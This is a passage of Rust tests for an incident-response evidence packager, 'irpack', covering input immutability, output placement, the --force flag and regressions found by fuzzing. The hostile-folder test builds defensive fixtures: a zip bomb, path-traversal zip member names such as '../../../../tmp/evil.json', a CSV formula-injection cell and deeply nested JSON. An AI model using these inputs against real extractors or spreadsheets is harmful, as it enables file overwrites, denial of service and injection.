        input.join("sub/b.csv"),
        "time,note\n2024-05-01T10:00:00Z,\"x\n",
    )
    .unwrap();
    std::fs::write(
        input.join("c.zip"),
        zip_bytes(&[Member {
            name: "../m.json",
            data: line("2024-05-01T10:00:00Z").as_bytes(),
            deflate: true,
        }]),
    )
    .unwrap();
    std::fs::write(input.join("d.bin"), utf16("{\"x\":1}\n", true, true)).unwrap();
    set_modes(&input, 0o444, 0o555);
    let before = fingerprint(&input);

    let case = dir.path().join("case");
    let run = cli::irpack(
        &[
            "run",
            input.to_str().unwrap(),
            "--out",
            case.to_str().unwrap(),
        ],
        dir.path(),
    );
    let after = fingerprint(&input);
    set_modes(&input, 0o644, 0o755);
    assert!(run.ok(), "{}", run.stderr());
    assert_eq!(before, after, "an input changed");
    accounting_holds(&collected(&case));
    // The copies in the case folder are byte-identical.
    for f in ["a.json", "sub/b.csv", "c.zip", "d.bin"] {
        assert_eq!(
            std::fs::read(input.join(f)).unwrap(),
            std::fs::read(case.join("evidence/in").join(f)).unwrap()
        );
    }
}

#[test]
fn output_inside_an_input_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in");
    std::fs::create_dir(&input).unwrap();
    std::fs::write(input.join("a.json"), line("2024-05-01T10:00:00Z")).unwrap();
    let before = fingerprint(&input);
    for out in [input.join("case"), input.join("sub/case"), input.clone()] {
        let run = cli::irpack(
            &[
                "run",
                input.to_str().unwrap(),
                "--out",
                out.to_str().unwrap(),
            ],
            dir.path(),
        );
        assert_eq!(run.out.status.code(), Some(2));
        assert!(
            run.stderr().contains("lies inside input"),
            "{}",
            run.stderr()
        );
        assert_eq!(
            fingerprint(&input),
            before,
            "refused run wrote into the input"
        );
    }
    // Nor may an input sit inside the output folder.
    let run = cli::irpack(
        &[
            "run",
            input.to_str().unwrap(),
            "--out",
            dir.path().to_str().unwrap(),
        ],
        dir.path(),
    );
    assert_eq!(run.out.status.code(), Some(2));
    assert!(
        run.stderr().contains("lies inside the output folder"),
        "{}",
        run.stderr()
    );
}

#[test]
fn existing_case_folder_needs_force() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in");
    std::fs::create_dir(&input).unwrap();
    std::fs::write(input.join("a.json"), line("2024-05-01T10:00:00Z")).unwrap();
    let case = dir.path().join("case");
    let args = |force: bool| {
        let mut a = vec![
            "run".to_string(),
            input.display().to_string(),
            "--out".into(),
            case.display().to_string(),
        ];
        if force {
            a.push("--force".into());
        }
        a
    };
    let run_args = |force: bool| {
        let a = args(force);
        let r: Vec<&str> = a.iter().map(String::as_str).collect();
        cli::irpack(&r, dir.path())
    };
    assert!(run_args(false).ok());
    let custody = std::fs::read(case.join("custody.jsonl")).unwrap();
    let again = run_args(false);
    assert_eq!(again.out.status.code(), Some(2));
    assert!(again.stderr().contains("--force"), "{}", again.stderr());
    assert_eq!(std::fs::read(case.join("custody.jsonl")).unwrap(), custody);
    let forced = run_args(true);
    assert!(forced.ok(), "{}", forced.stderr());

    // A folder that is not an irpack case is never deleted, even with --force.
    let other = dir.path().join("notes");
    std::fs::create_dir(&other).unwrap();
    std::fs::write(other.join("keep.txt"), "analyst notes").unwrap();
    let run = cli::irpack(
        &[
            "run",
            input.to_str().unwrap(),
            "--out",
            other.to_str().unwrap(),
            "--force",
        ],
        dir.path(),
    );
    assert_eq!(run.out.status.code(), Some(2));
    assert!(
        run.stderr().contains("not an irpack case folder"),
        "{}",
        run.stderr()
    );
    assert_eq!(
        std::fs::read_to_string(other.join("keep.txt")).unwrap(),
        "analyst notes"
    );
}

#[test]
fn hostile_folder_end_to_end() {
    // Everything above in one folder through `irpack run`: it finishes, accounts for every
    // record, and names each refused input.
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in");
    std::fs::create_dir(&input).unwrap();
    let files: Vec<(&str, Vec<u8>)> = vec![
        ("trunc.json", b"[{\"createdDateTime\":\"2024-05-01T10:00:00Z\",\"isInteractive\":true,\"userPrincipalName\":\"a@b\"},{\"createdDate".to_vec()),
        ("u16le.json", utf16(&signin(1), true, false)),
        ("u16be.json", utf16(&signin(2), false, true)),
        ("cp1252.csv", b"time,user\n2024-05-01T10:00:00Z,J\xe9r\xf4me\n".to_vec()),
        ("nul.json", b"\0\0{\"a\":\0}\n\0".to_vec()),
        ("deep.json", "[".repeat(200_000).into_bytes()),
        ("formula.csv", b"time,user\n2024-05-01T10:00:00Z,=HYPERLINK(\"x\")\n".to_vec()),
        ("unbalanced.csv", b"time,user\n2024-05-01T10:00:00Z,\"x\n2024-05-01T10:00:01Z,y\n".to_vec()),
        ("years.json", format!("{}\n{}\n", signin(3).replace("2024-05-01", "99999-05-01"), signin(4).replace("2024-05-01T", "0000-01-01T")).into_bytes()),
    ];
    for (name, bytes) in &files {
        std::fs::write(input.join(name), bytes).unwrap();
    }
    let zeros = vec![0u8; 16 << 20];
    std::fs::write(
        input.join("bomb.zip"),
        zip_bytes(&[
            Member {
                name: "zeros.json",
                data: &zeros,
                deflate: true,
            },
            Member {
                name: "../../../../tmp/evil.json",
                data: signin(5).as_bytes(),
                deflate: true,
            },
        ]),
    )
    .unwrap();
    let case = dir.path().join("case");
    let run = cli::irpack(
        &[
            "run",
            input.to_str().unwrap(),
            "--out",
            case.to_str().unwrap(),
        ],
        dir.path(),
    );
    assert!(run.ok(), "{}\n{}", run.stdout(), run.stderr());
    let out = run.stdout();
    assert!(
        out.contains("not taken:") && out.contains("bomb.zip") && out.contains("zip bomb"),
        "{out}"
    );
    let c = collected(&case);
    accounting_holds(&c);
    // 10 files + 1 zip member taken (the bomb member refused).
    assert_eq!(c["files"].as_array().unwrap().len(), 11, "{out}");
    assert!(out.contains("bomb.zip!/tmp/evil.json"), "{out}");
    let tl = std::fs::read_to_string(case.join("timeline/timeline.jsonl")).unwrap();
    irpack::timeline::verify_text(&tl).unwrap();
    let csv = std::fs::read(case.join("timeline/timeline.csv")).unwrap();
    let mut rdr = csv::ReaderBuilder::new().from_reader(&csv[..]);
    for rec in rdr.records() {
        assert!(rec.unwrap().iter().all(|c| !invariants::is_formula(c)));
    }
}

// ---------------------------------------------------------------- crashes found by fuzzing

/// Found by `parse_fortigate` (and reproduced by `detect_parse` and `irpack run`, which exits
/// 101): a `tz=` value of 4 bytes with a multi-byte character, e.g. `-0ÿ=` from a stray 0xFF
/// decoded as Windows-1252, makes `sources::timefmt::parse_offset` slice inside a character
/// (`body[..2]`). Fixed: `parse_offset` accepts only digits and a colon.
const FORTIGATE_TZ_CRASH: &[u8] = b"<190>date=2024-03-11 time=19:10:42 devname=\"FGT-SEA-HQ\" devid=\"FG100FTK21004321\" logid=\"0101039943\" type=\"event\" subtype=\"vpn\" level=\"information\" vd=\"root\" tz=\"-0\xff=\" logdesc=\"SSL VPN tunnel up\" user=\"a@b\" remip=203.0.113.5\n";

#[test]
fn fuzz_crash_fortigate_tz_multibyte() {
    assert!(sources::timefmt::parse_offset("-0ÿ=").is_none());
    assert!(sources::timefmt::parse_offset("+é1").is_none());
    let p = parse_with(&sources::registry(), FORTIGATE_TZ_CRASH, true);
    assert_eq!(p.records(), 1);
}

#[test]
fn fuzz_crash_fortigate_tz_multibyte_cli() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("fgt.log");
    std::fs::write(&input, FORTIGATE_TZ_CRASH).unwrap();
    let case = dir.path().join("case");
    let run = cli::irpack(
        &[
            "run",
            input.to_str().unwrap(),
            "--out",
            case.to_str().unwrap(),
        ],
        dir.path(),
    );
    assert!(run.ok(), "{}", run.stderr());
    accounting_holds(&collected(&case));
}

/// Found by `zip_intake`: two members whose raw names differ (`di\xaf\xaf`, not UTF-8, and
/// the UTF-8 `di\u{fffd}\u{fffd}`) read alike once decoded. Intake hashed both, but reading a
/// member back searched by the decoded name and found the first one for both, so the second
/// failed its hash check (`run` reported it as unreadable; `verify` would have flagged a sound
/// package). Fixed: intake records each member's index, and read-back and verify use it.
const ZIP_NAMES_READ_ALIKE: &str = "tests/data/fuzz/zip_intake-names-read-alike.zip";

#[test]
fn fuzz_crash_zip_member_names_that_read_alike() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in");
    std::fs::create_dir(&input).unwrap();
    std::fs::copy(
        Path::new(env!("CARGO_MANIFEST_DIR")).join(ZIP_NAMES_READ_ALIKE),
        input.join("export.zip"),
    )
    .unwrap();
    let case = dir.path().join("case");
    let actor = irpack::evidence::custody::Actor::detect(Some("fuzz"));
    let got = irpack::evidence::intake::intake(&irpack::evidence::intake::IntakeOptions {
        inputs: std::slice::from_ref(&input),
        case_dir: &case,
        acquired_at: "2024-01-01T00:00:00Z".into(),
        actor: &actor,
        zip_limits: Default::default(),
        exclude: &[],
    });
    let members: Vec<_> = got
        .items
        .iter()
        .filter(|i| i.kind == irpack::evidence::intake::ItemKind::ZipMember)
        .collect();
    let alike = members
        .iter()
        .filter(|m| m.member_name.as_deref() == Some("di\u{fffd}\u{fffd}"))
        .count();
    assert_eq!(alike, 2, "{members:#?}");
    for m in &members {
        let bytes = irpack::evidence::intake::read_item(&case, m)
            .unwrap_or_else(|e| panic!("{}: {e}", m.stored_path));
        assert_eq!(irpack::sources::sha256_hex(&bytes), m.sha256);
    }
    // End to end: every member parses (or is reported), and the package verifies.
    let out = dir.path().join("run");
    let run = cli::irpack(
        &[
            "run",
            input.to_str().unwrap(),
            "--out",
            out.to_str().unwrap(),
        ],
        dir.path(),
    );
    assert!(run.ok(), "{}", run.stderr());
    let c = collected(&out);
    accounting_holds(&c);
    for f in c["files"].as_array().unwrap() {
        assert!(f["error"].is_null(), "{f}");
    }
    let zip = std::fs::read_dir(&out)
        .unwrap()
        .filter_map(Result::ok)
        .map(|e| e.path())
        .find(|p| p.extension().is_some_and(|x| x == "zip"))
        .unwrap();
    let v = cli::irpack(&["verify", zip.to_str().unwrap()], dir.path());
    assert!(v.ok(), "{}\n{}", v.stdout(), v.stderr());
}

/// Collecting streams: events go to sorted runs on disk and one merge writes the timeline,
/// so `irpack collect` stays under 256 MiB on an input whose events alone (held as before,
/// about 9 KB each) would take over half a gigabyte.
#[test]
fn collect_stays_within_256_mib() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in");
    let gen = cli::irpack(
        &[
            "gen",
            "--kind",
            "mixed",
            "--mib",
            "48",
            "--out",
            input.to_str().unwrap(),
        ],
        dir.path(),
    );
    assert!(gen.ok(), "{}", gen.stderr());
    let case = dir.path().join("case");
    let run = cli::irpack(
        &[
            "collect",
            input.to_str().unwrap(),
            "--out",
            case.to_str().unwrap(),
        ],
        dir.path(),
    );
    assert!(run.ok(), "{}\n{}", run.stdout(), run.stderr());
    let c = collected(&case);
    accounting_holds(&c);
    let events: u64 = c["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["events"].as_u64().unwrap_or(0))
        .sum();
    assert!(events > 50_000, "{events} events");
    let kib = run.peak_kib.expect("peak RSS measured");
    eprintln!("peak RSS of `irpack collect` on 48 MiB mixed ({events} events): {kib} KiB");
    assert!(kib < 256 * 1024, "peak RSS {kib} KiB over 256 MiB");
}
